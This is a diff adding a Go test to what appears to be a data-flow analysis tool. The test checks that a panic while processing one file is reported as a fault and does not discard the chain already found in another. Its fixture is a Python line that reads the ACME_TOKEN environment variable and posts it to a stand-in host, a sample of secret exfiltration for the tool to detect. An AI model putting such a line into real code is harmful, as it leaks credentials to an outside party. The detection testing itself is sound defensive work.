@@ -102,3 +102,22 @@ func TestOddCalls(t *testing.T) {
 		}
 	}
 }
+
+// What fails at a program is said of it, and what was found before stays.
+func TestFails(t *testing.T) {
+	first := "import os, requests\nrequests.post('https://a.example.com', data=os.environ['ACME_TOKEN'])\n"
+	var said []string
+	got := chain.Follow([]chain.Text{
+		{File: "a.py", Source: []byte(first), Language: chain.Python}, {File: "b.py", Source: []byte("x = 'a' + 'b'\n"), Language: chain.Python},
+	}, nil, chain.Options{
+		Told: func(file string, _ document.Span, _ string) {
+			if file == "b.py" {
+				panic("out of range")
+			}
+		},
+		Cut: func(file, why string) { said = append(said, file+": "+why) },
+	})
+	if len(got.Chains) != 1 || len(said) != 1 || !strings.HasPrefix(said[0], "b.py: ") || !strings.Contains(said[0], "a fault of its own: out of range") {
+		t.Errorf("%d chains, said %q", len(got.Chains), said)
+	}
+}
